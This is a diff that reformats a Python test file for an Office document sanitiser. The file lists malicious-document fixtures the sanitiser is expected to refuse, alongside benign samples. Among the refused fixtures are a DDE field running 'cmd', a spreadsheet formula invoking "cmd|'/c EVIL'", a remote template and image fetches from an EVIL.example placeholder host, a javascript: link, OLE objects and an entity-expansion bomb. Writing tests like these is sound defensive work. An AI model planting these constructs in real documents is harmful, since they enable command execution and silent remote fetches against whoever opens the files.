@@ -103,17 +103,24 @@ REFUSED: dict[str, tuple[bytes, str]] = {
     "macros by part": (with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 EVIL"), "macros"),
     "macros in a sheet of old": (with_part("xl/macrosheets/sheet1.xml", "<x/>", "xlsx"), "macros"),
     "a ribbon that runs": (with_part("customUI/customUI.xml", "<x onLoad='EVIL'/>"), "macros"),
-    "a template from the web": (with_relation(relation("attachedTemplate", "https://EVIL.example/t.dotm")), "external_parts"),
+    "a template from the web": (
+        with_relation(relation("attachedTemplate", "https://EVIL.example/t.dotm")),
+        "external_parts",
+    ),
     "a picture from a share": (with_relation(relation("image", "file://EVIL.example/share/a.png")), "external_parts"),
     "a link to a program": (with_relation(relation("hyperlink", "file:///C:/Windows/EVIL.exe")), "external_parts"),
     "a link that is a script": (with_relation(relation("hyperlink", "javascript:EVIL()")), "external_parts"),
-    "a share called internal": (with_relation(relation("image", r"\\EVIL.example\a.png", "Internal")), "external_parts"),
+    "a share called internal": (
+        with_relation(relation("image", r"\\EVIL.example\a.png", "Internal")),
+        "external_parts",
+    ),
     "a tracker behind an entity": (with_relation(relation("frame", "&#104;ttps://EVIL.example/")), "external_parts"),
     "an OLE object": (with_relation(relation("oleObject", "embeddings/a.bin", "Internal")), "embedded_files"),
     "an OLE object's bytes": (with_part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), "embedded_files"),
     "an OLE element": (office(content=word('<w:object><o:OLEObject ProgID="Package"/></w:object>')), "embedded_files"),
     "an OLE element in UTF-16": (
-        office(content=word("<o:OLEObject/>").replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")), "embedded_files",
+        office(content=word("<o:OLEObject/>").replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")),
+        "embedded_files",
     ),
     "ActiveX": (with_part("word/activeX/activeX1.xml", "<ocx/>"), "external_parts"),
     "a page put in": (office(content=word('<w:altChunk r:id="r9"/>')), "embedded_files"),
@@ -124,7 +131,10 @@ REFUSED: dict[str, tuple[bytes, str]] = {
     "DDE in a simple field": (office(content=word('<w:fldSimple w:instr="DDE cmd EVIL"/>')), "external_parts"),
     "a field that fetches": (office(content=word(field('INCLUDEPICTURE "https://EVIL.example/"'))), "external_parts"),
     "a formula that runs": (with_part("xl/worksheets/sheet1.xml", sheet("cmd|'/c EVIL'!A0"), "xlsx"), "external_parts"),
-    "a formula that fetches": (with_part("xl/worksheets/sheet1.xml", sheet('&#87;EBSERVICE("x")'), "xlsx"), "external_parts"),
+    "a formula that fetches": (
+        with_part("xl/worksheets/sheet1.xml", sheet('&#87;EBSERVICE("x")'), "xlsx"),
+        "external_parts",
+    ),
     "a link to another book": (with_part("xl/externalLinks/externalLink1.xml", "<ddeLink/>", "xlsx"), "external_parts"),
     "a connection": (with_part("xl/connections.xml", "<connections/>", "xlsx"), "external_parts"),
     "entities that unfold": (office(content=LAUGHS), "external_parts"),
@@ -140,11 +150,13 @@ REFUSED: dict[str, tuple[bytes, str]] = {
     "a plain archive": (packed({"EVIL.exe": b"MZ"}), "not_office"),
     "cut in half": (office()[:400], "broken_office"),
     "an older format or a password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
-}  # fmt: skip
+}
 
 SOUND = {
     "a Word file with links": with_relation(relation("hyperlink", "https://example.go.id/?a=1&amp;b=2")),
-    "a Word file with a contents list": office(content=word(field('TOC \\o "1-3" ') + field('HYPERLINK "https://a.id/link"'))),
+    "a Word file with a contents list": office(
+        content=word(field('TOC \\o "1-3" ') + field('HYPERLINK "https://a.id/link"'))
+    ),
     "an Excel file with formulas": with_part("xl/worksheets/sheet1.xml", sheet("SUM(A1:A9)*2"), "xlsx"),
     "a PowerPoint file": office("pptx", content='<p:presentation xmlns:p="urn:p"/>'),
-}  # fmt: skip
+}
